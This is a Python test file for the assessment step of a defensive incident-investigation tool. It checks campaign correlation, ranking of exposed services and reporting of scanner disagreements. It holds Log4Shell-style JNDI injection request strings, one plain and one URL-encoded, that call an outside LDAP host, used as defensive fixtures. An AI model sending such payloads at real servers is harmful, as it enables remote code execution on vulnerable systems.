"""Step 6: what else is exposed, who else took part, where else the client was, and what to test first."""

from tests.investigate.steps.conftest import alert, line, service, vulnerability

from vedette.investigate.campaign import Mark, marks
from vedette.investigate.steps.assessment import AssessmentStep
from vedette.model.alert import Outcome, Severity
from vedette.model.inventory import Opinion
from vedette.model.running import Reach
from vedette.model.vulnerability import State

WEB, APP = service(port=80), service("aiohttp", "3.9.1", 8080)
STORE = service("redis", "7.0.15", 6379)
INNER = service("postgresql", "15.1", 5432, listen="127.0.0.1")
CLOSED = service("mysql", "8.0", 3306, reach=Reach.FIREWALLED)
JNDI = "GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1"
JNDI_ENCODED = "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fb%7D HTTP/1.1"


def run(scene, about, services=(WEB, APP, STORE, INNER, CLOSED), **options):
    return AssessmentStep().run(scene.case(about, services, **options))


def by_id(record, name):
    return [finding for finding in record.findings if finding.id == name]


def test_other_clients_are_tied_by_payload_request_tool_and_network(scene):
    about = alert("a1", "203.0.113.66", WEB, evidence=[line(JNDI, "evil-scanner/1.0")])
    others = [
        alert("b1", "192.0.2.1", APP, evidence=[line(JNDI_ENCODED)]),
        alert("b2", "192.0.3.1", APP, evidence=[line("GET / HTTP/1.1", "evil-scanner/1.0")]),
        alert("b3", "203.0.113.9", WEB),
        alert("b4", "192.0.4.1", WEB, evidence=[line("GET /index.html HTTP/1.1")]),
        alert("b5", "192.0.5.1", WEB, evidence=[line(JNDI, "curl/8")]),
    ]
    record = run(scene, about, others=others)
    found = {f.subject: f for f in by_id(record, "campaign")}
    assert set(found) == {"192.0.2.1", "192.0.3.1", "203.0.113.9", "192.0.5.1"}
    assert found["192.0.2.1"].severity is Severity.HIGH
    assert "the same payload host: 198.51.100.9" in found["192.0.2.1"].reasons
    assert found["192.0.3.1"].reasons == ("the same tool: evil-scanner/1.0",)
    assert found["203.0.113.9"].severity is Severity.LOW
    assert any("the same request" in reason for reason in found["192.0.5.1"].reasons)
    assert "3 other clients" in record.summary


def test_a_tool_that_everybody_uses_ties_nobody(scene):
    about = alert("a1", "203.0.113.66", WEB, evidence=[line("GET / HTTP/1.1", "curl/8.0")])
    others = [
        alert(f"b{n}", f"192.0.{n}.1", WEB, evidence=[line("GET / HTTP/1.1", "curl/8.0")]) for n in range(30)
    ]
    assert by_id(run(scene, about, others=others), "campaign") == []


def test_what_a_browser_says_and_where_it_came_from_are_no_marks():
    text = line("GET /about HTTP/1.1").excerpt.replace('"-"', '"https://shop.example/"')
    evidence = line("GET /about HTTP/1.1")
    about = alert("a1", "2001:db8:1:2::3", WEB, evidence=[type(evidence)("a", 1, 0, None, text, "")])
    assert marks(about) == {(Mark.NETWORK, "2001:db8:1::/48")}


def test_other_alerts_of_the_client_and_of_its_64_are_told(scene):
    about = alert("a1", "2001:db8:1:2::3", WEB)
    others = [
        alert("b1", "2001:db8:1:2::4", APP, outcome=Outcome.CONFIRMED_SUCCESSFUL),
        alert("b2", "2001:db8:1:3::4", APP),
    ]
    (finding,) = by_id(run(scene, about, others=others), "touched-too")
    assert finding.subject == f"{APP.id} b1"
    assert finding.severity is Severity.HIGH


def test_exposed_services_are_named_and_ranked_and_closed_ones_are_not(scene):
    exposures = {
        s.id: [vulnerability(f"CVE-2024-000{n}", cvss=score, kev=kev)]
        for n, (s, score, kev) in enumerate(
            ((APP, 7.5, False), (STORE, 9.8, True), (INNER, 10.0, True), (CLOSED, 10.0, True))
        )
    }
    about = alert("a1", "203.0.113.66", WEB, "CVE-2021-41773", Outcome.CONFIRMED_SUCCESSFUL)
    record = run(scene, about, exposures=exposures)
    assert {f.subject for f in by_id(record, "exposed-service")} == {APP.id, STORE.id}
    (first,) = by_id(record, "test-first")
    assert [reason.partition(" on ")[2].partition(":")[0] for reason in first.reasons] == [
        s.id.partition(":")[0] for s in (WEB, STORE, APP)
    ]


def test_a_scanner_that_sees_it_otherwise_is_told_and_none_is_asked_for(scene):
    about = alert("a1", "203.0.113.66", WEB)
    opinion = Opinion(
        "Trivy 0.50",
        "trivy.json",
        "web-1",
        "pkg:deb/debian/apache2",
        "CVE-2024-1",
        (),
        "affected",
        "2.4.59",
        "HIGH",
    )
    exposures = {WEB.id: [vulnerability("CVE-2024-1", State.UNKNOWN, opinions=(opinion,))]}
    record = run(scene, about, exposures=exposures)
    (finding,) = by_id(record, "scanner-differs")
    assert finding.evidence[0].source == "trivy.json"
    assert record.questions == ()
    assert [q.id for q in run(scene, about).questions] == ["scanner-report"]
